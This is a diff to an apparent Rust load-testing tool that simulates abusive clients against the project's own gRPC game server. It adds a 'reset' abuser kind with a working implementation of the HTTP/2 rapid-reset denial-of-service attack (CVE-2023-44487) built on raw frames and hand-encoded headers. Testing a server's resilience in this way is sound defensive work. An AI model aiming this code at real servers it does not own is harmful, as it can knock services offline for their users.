@@ -6,8 +6,9 @@
 //! The crowd: three quarters are well-behaved idle clients (one call each, then they wait); the
 //! abusive quarter is split among silent TCP connections (never a byte), slow readers (Watch
 //! streams on busy all-bot matches, never read), floods (SubmitAction with a made-up token, as
-//! fast as answers come), and pending streams (Play streams that never send Join, 32 per
-//! connection), or among the kinds `--abusers` names.
+//! fast as answers come), pending streams (Play streams that never send Join, 32 per
+//! connection) and rapid resets (HTTP/2 requests cancelled as soon as they are sent,
+//! CVE-2023-44487), or among the kinds `--abusers` names.
 //!
 //! The crowd runs in a process of its own (`maumau-loadgen crowd`) at the lowest priority
 //! (`nice -n 19`): on a machine of two cores its own work (a flood's client side, 1,000
@@ -38,6 +39,8 @@ pub(crate) enum Abuser {
     Flood,
     /// Play streams that never send Join.
     Pending,
+    /// HTTP/2 requests each cancelled (RST_STREAM) as soon as it is sent, on raw frames.
+    Reset,
 }
 
 impl Abuser {
@@ -47,6 +50,7 @@ impl Abuser {
             Abuser::SlowReader => "slow-reader",
             Abuser::Flood => "flood",
             Abuser::Pending => "pending",
+            Abuser::Reset => "reset",
         }
     }
 }
@@ -139,6 +143,10 @@ async fn crowd(
         } else {
             None
         };
+        if kind == Some(Abuser::Reset) {
+            set.spawn(rapid_reset(addr.clone()));
+            continue;
+        }
         let channel = if kind == Some(Abuser::Silent) {
             // Silent TCP: connected, never a byte.
             let tcp = tokio::net::TcpStream::connect(&addr)
@@ -201,7 +209,7 @@ async fn crowd(
                     std::future::pending::<()>().await;
                 });
             }
-            Some(Abuser::Silent) | None => {
+            Some(Abuser::Silent | Abuser::Reset) | None => {
                 // Well-behaved but idle: one call, then nothing.
                 set.spawn(async move {
                     let mut client = MatchServiceClient::new(channel);
@@ -217,6 +225,59 @@ async fn crowd(
         }
     }
     Ok(set)
+}
+
+/// One HTTP/2 frame: its 9-byte header and payload.
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let len = payload.len() as u32;
+    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
+/// Rapid reset (CVE-2023-44487) on raw HTTP/2 frames: a valid gRPC request (ListMatches) on
+/// stream after stream, each cancelled with RST_STREAM at once, 64 to a write, as fast as the
+/// socket takes them; what the server sends is read and dropped. When the server closes the
+/// connection (GOAWAY after its limit of such resets) it comes back 100 ms later.
+async fn rapid_reset(addr: String) {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    const HEADERS: u8 = 0x1;
+    const RST_STREAM: u8 = 0x3;
+    const SETTINGS: u8 = 0x4;
+    const END_HEADERS: u8 = 0x4;
+    const CANCEL: [u8; 4] = 8u32.to_be_bytes();
+    // :method POST, :scheme http, :path (literal, indexed name 4), content-type (literal,
+    // indexed name 31), te: trailers (literal, new name).
+    let path = b"/maumau.v1.MatchService/ListMatches";
+    let mut block = vec![0x83, 0x86, 0x04, path.len() as u8];
+    block.extend_from_slice(path);
+    block.extend_from_slice(&[0x0f, 0x10, 16]);
+    block.extend_from_slice(b"application/grpc");
+    block.extend_from_slice(&[0x00, 2, b't', b'e', 8]);
+    block.extend_from_slice(b"trailers");
+    loop {
+        if let Ok(tcp) = tokio::net::TcpStream::connect(&addr).await {
+            let (mut read, mut write) = tcp.into_split();
+            let drain = tokio::spawn(async move {
+                let mut buf = [0u8; 16 * 1024];
+                while matches!(read.read(&mut buf).await, Ok(n) if n > 0) {}
+            });
+            let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+            out.extend(h2_frame(SETTINGS, 0, 0, &[]));
+            let mut stream = 1u32;
+            while write.write_all(&out).await.is_ok() && stream < (1 << 30) {
+                out.clear();
+                for _ in 0..64 {
+                    out.extend(h2_frame(HEADERS, END_HEADERS, stream, &block));
+                    out.extend(h2_frame(RST_STREAM, 0, stream, &CANCEL));
+                    stream += 2;
+                }
+            }
+            drain.abort();
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
 }
 
 /// `maumau-loadgen crowd`: opens the crowd, says so on stdout, and holds it until killed.
